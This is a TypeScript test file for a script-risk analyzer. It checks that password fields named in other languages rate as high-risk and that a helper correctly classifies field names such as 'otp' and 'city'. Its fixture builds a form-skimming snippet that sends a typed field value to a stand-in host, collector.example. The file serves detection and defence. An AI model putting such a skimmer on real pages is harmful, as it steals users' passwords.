import { expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";
import { namesPassword } from "./password-names.ts";

/** A script that sends what stands in a field with this name to somebody else. */
const sends = (name: string): string =>
	`document.addEventListener("submit", () => {
		const typed = document.querySelector("input[name=${name}]").value;
		fetch("https://collector.example/?v=" + typed);
	});`;

test.each(["kennwort", "senha", "salasana", "geheimzahl"])("a field named %s rates like one named password", (name) => {
	const { risk_level, score, vulnerabilities } = analyzeScript({ code: sends(name) });
	const like = analyzeScript({ code: sends("password") });
	expect({ risk_level, score, rules: vulnerabilities.map(({ type }) => type) }).toEqual({
		risk_level: like.risk_level,
		score: like.score,
		rules: like.vulnerabilities.map(({ type }) => type),
	});
	expect(like.risk_level).toBe("red");
	expect(analyzeScript({ code: sends("city") }).vulnerabilities).not.toEqual(vulnerabilities);
});

test.each([
	"token",
	"api_key",
	"client-secret",
	"csrf",
	"credential",
	"city",
	"quantity",
	"zip code",
	"hotpink",
	"footprint",
	"css_zonetime",
])("%s names no password", (name) => expect(namesPassword(name)).toBe(false));

test.each(["otp", "otpCode", "inputOtp", "sms-otp", "one-time-code", "onetime"])("%s names a password", (name) =>
	expect(namesPassword(name)).toBe(true),
);
